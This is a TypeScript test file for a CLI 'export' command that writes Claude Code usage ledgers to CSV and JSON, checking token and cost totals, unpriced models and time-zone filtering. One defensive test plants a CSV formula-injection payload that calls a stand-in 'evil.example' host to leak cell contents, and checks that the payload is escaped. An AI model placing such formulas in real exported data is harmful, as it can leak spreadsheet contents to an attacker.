/**
 * `spec-session export` on a ledger the real Claude Code CLI made: the rows of a range sum to
 * `cost --json`'s totals for it, in CSV and in JSON; and an unpriced call is an empty cell, not $0.
 */
import { spawnSync } from 'node:child_process';
import { cpSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { EXPORT_COLUMNS } from '../../src/export/export-usage.js';
import { cli } from '../e2e/support/project.js';
import { parseCsv } from './support/parse-csv.js';
import { makeWorkedProject, removeWorkedProject, type WorkedProject } from '../dashboard/support/worked-project.js';

type Row = Record<string, string | number | null>;
let p: WorkedProject;

beforeAll(async () => {
  p = await makeWorkedProject();
}, 180_000);
afterAll(() => removeWorkedProject(p));

function totalsOf(rows: Row[]) {
  const sum = (k: string) => rows.reduce((s, r) => s + Number(r[k] ?? 0), 0);
  let cost = 0;
  for (const r of rows) if (r.cost_usd !== null && r.cost_usd !== '') cost += Number(r.cost_usd);
  return {
    inputTokens: sum('input_tokens'),
    outputTokens: sum('output_tokens'),
    cacheCreationTokens: sum('cache_write_5m_tokens') + sum('cache_write_1h_tokens'),
    cacheReadTokens: sum('cache_read_tokens'),
    totalCost: Math.round(cost * 1e9) / 1e9,
    calls: rows.length,
  };
}

function costTotals(range: string[]) {
  const t = JSON.parse(p.specSession(['cost', '--json', ...range]).stdout).totals;
  return { inputTokens: t.inputTokens, outputTokens: t.outputTokens, cacheCreationTokens: t.cacheCreationTokens, cacheReadTokens: t.cacheReadTokens, totalCost: t.totalCost, calls: t.calls };
}

const today = new Date().toISOString().slice(0, 10);
const tomorrow = new Date(Date.now() + 86_400_000).toISOString().slice(0, 10);

describe('spec-session export', () => {
  it.each([
    ['all time', []],
    ['today', ['--since', today, '--until', today]],
    ['a day with nothing', ['--since', tomorrow]],
  ])('%s: the rows sum to cost --json totals, in CSV and in JSON', (_name, range) => {
    const expected = costTotals(range);
    const json = JSON.parse(p.specSession(['export', '--format', 'json', ...range]).stdout) as { rows: Row[] };
    expect(totalsOf(json.rows)).toEqual(expected);
    const [header, ...records] = parseCsv(p.specSession(['export', '--format', 'csv', ...range]).stdout);
    expect(header).toEqual([...EXPORT_COLUMNS]);
    const rows = records.map((r) => Object.fromEntries(header!.map((h, i) => [h, r[i]!])));
    expect(totalsOf(rows)).toEqual(expected);
    expect(rows.map((r) => r.cost_usd)).toEqual(json.rows.map((r) => String(r.cost_usd)));
  });

  it('a row per call: who, what, when, and its tokens', () => {
    const { rows } = JSON.parse(p.specSession(['export', '--format', 'json']).stdout) as { rows: Row[] };
    expect(rows).toHaveLength(8);
    expect(rows[0]).toEqual({
      timestamp: expect.stringMatching(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/),
      claude_session: p.sessions.invoice,
      work_session: 'inv-1000',
      spec: 'invoice-management',
      task: '1.1',
      model: 'claude-opus-4-5-20251101',
      kind: 'call',
      input_tokens: 1200,
      output_tokens: 340,
      cache_write_5m_tokens: 5100,
      cache_write_1h_tokens: 0,
      cache_read_tokens: 9000,
      cost_usd: 0.050875,
    });
    expect(rows.at(-1)).toMatchObject({ claude_session: p.sessions.loose, work_session: null, spec: null, task: null, model: 'claude-haiku-4-5-20251001' });
  });

  it('refuses a format it does not know, in one line', () => {
    const r = p.specSession(['export', '--format', 'xlsx'], { allowFail: true });
    expect([r.code, r.stderr]).toEqual([1, 'spec-session export: --format must be "csv" or "json", got "xlsx"\n']);
  });
});

describe('export of the hand-written ledger', () => {
  const project = mkdtempSync(join(tmpdir(), 'spec-session-export-'));
  mkdirSync(join(project, 'home'));
  mkdirSync(join(project, '.claude', 'spec-session'), { recursive: true }); // a clone of an installed project: a project root
  cpSync(fileURLToPath(new URL('../dashboard/fixtures/ledger', import.meta.url)), join(project, 'docs', 'sessions', 'ledger'), { recursive: true });
  afterAll(() => rmSync(project, { recursive: true, force: true }));
  const run = (...args: string[]) => spawnSync(process.execPath, [cli, 'export', ...args, '--dir', project, '--tz', 'America/New_York'], { env: { ...process.env, HOME: join(project, 'home') }, encoding: 'utf8' }).stdout;

  it('an unpriced model: an empty cell in CSV, null in JSON; gap and manual rows keep their kind', () => {
    const csv = parseCsv(run('--format', 'csv'));
    const mystery = csv.find((r) => r[5] === 'claude-mystery-9')!;
    expect(mystery.at(-1)).toBe('');
    const { rows } = JSON.parse(run('--format', 'json')) as { rows: Row[] };
    expect(rows.find((r) => r.model === 'claude-mystery-9')?.cost_usd).toBeNull();
    expect(rows.map((r) => r.kind).sort()).toEqual(['call', 'call', 'call', 'call', 'call', 'call', 'call', 'call', 'gap', 'manual']);
  });

  it('days follow the zone: --since/--until pick the same rows as cost does', () => {
    const { rows } = JSON.parse(run('--format', 'json', '--since', '2026-11-19', '--until', '2026-11-19')) as { rows: Row[] };
    expect(rows.map((r) => r.timestamp)).toContain('2026-11-20T03:00:00.000Z'); // 22:00 on the 19th in New York
  });
});

describe('a formula in the ledger', () => {
  it('reaches the CSV as text: a leading quote, never a live formula', () => {
    const project = mkdtempSync(join(tmpdir(), 'spec-session-export-'));
    mkdirSync(join(project, '.claude', 'spec-session'), { recursive: true });
    mkdirSync(join(project, 'docs', 'sessions', 'ledger', '2026-11-20'), { recursive: true });
    // A model name comes from a transcript line, which anyone who can write one controls.
    const model = '=HYPERLINK("http://evil.example/?"&A1,"click")';
    const call = { k: 'call', msg: 'msg_f1', req: 'req_f1', t: '2026-11-20T10:00:00.000Z', cs: 'dddddddd-0000-4000-8000-000000000004', model, in: 10, out: 5, cw5: 0, cw1h: 0, cr: 0, ws: null, spec: null, task: null };
    writeFileSync(join(project, 'docs', 'sessions', 'ledger', '2026-11-20', 'dddddddd-0000-4000-8000-000000000004.jsonl'), `${JSON.stringify(call)}\n`);
    const r = spawnSync(process.execPath, [cli, 'export', '--dir', project, '--tz', 'UTC'], { env: { ...process.env, HOME: project }, encoding: 'utf8' });
    const [, row] = parseCsv(r.stdout);
    expect(row![5]).toBe(`'${model}`);
    expect(row!.slice(7, 12)).toEqual(['10', '5', '0', '0', '0']);
    rmSync(project, { recursive: true, force: true });
  });
});
